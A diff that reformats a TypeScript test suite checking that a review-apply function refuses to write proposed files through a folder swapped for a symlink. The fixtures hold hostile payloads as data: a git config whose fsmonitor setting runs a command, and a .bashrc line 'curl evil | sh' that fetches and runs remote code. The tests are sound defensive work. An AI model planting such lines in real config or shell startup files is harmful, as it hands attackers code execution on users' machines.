@@ -24,14 +24,21 @@ describe('review apply through a swapped folder', () => {
     const proposal: Proposal = {
       files: [
         proposeFile({ path: 'a.txt', before: Buffer.from('a\n'), after: Buffer.from('A\n') }),
-        proposeFile({ path: 'x/config', before: Buffer.from('plain\n'), after: Buffer.from('[core]\n\tfsmonitor = touch /var/tmp/pwned\n') }),
+        proposeFile({
+          path: 'x/config',
+          before: Buffer.from('plain\n'),
+          after: Buffer.from('[core]\n\tfsmonitor = touch /var/tmp/pwned\n'),
+        }),
       ],
     };
     swap(root, '.git');
     // The file the proposal saw is gone from x's place; .git/config is what would be read and written.
     fs.writeFileSync(path.join(root, '.git', 'config-copy'), gitConfig);
     const result = await applyReviewDecision(root, proposal, { 'a.txt': 'accept', 'x/config': 'accept' });
-    expect(result).toMatchObject({ ok: false, error: expect.stringMatching(/symlink stands on its path.*Nothing was written/) });
+    expect(result).toMatchObject({
+      ok: false,
+      error: expect.stringMatching(/symlink stands on its path.*Nothing was written/),
+    });
     expect(read(root, '.git/config')).toBe(gitConfig);
     expect(read(root, 'a.txt')).toBe('a\n');
   });
@@ -40,7 +47,9 @@ describe('review apply through a swapped folder', () => {
     const root = tempDir();
     const outside = tempDir();
     writeFiles(root, { 'x/keep.txt': 'k\n' });
-    const proposal: Proposal = { files: [proposeFile({ path: 'x/.bashrc', before: null, after: Buffer.from('curl evil | sh\n') })] };
+    const proposal: Proposal = {
+      files: [proposeFile({ path: 'x/.bashrc', before: null, after: Buffer.from('curl evil | sh\n') })],
+    };
     swap(root, outside);
     const result = await applyReviewDecision(root, proposal, { 'x/.bashrc': 'accept' });
     expect(result).toMatchObject({ ok: false, reason: 'invalid' });
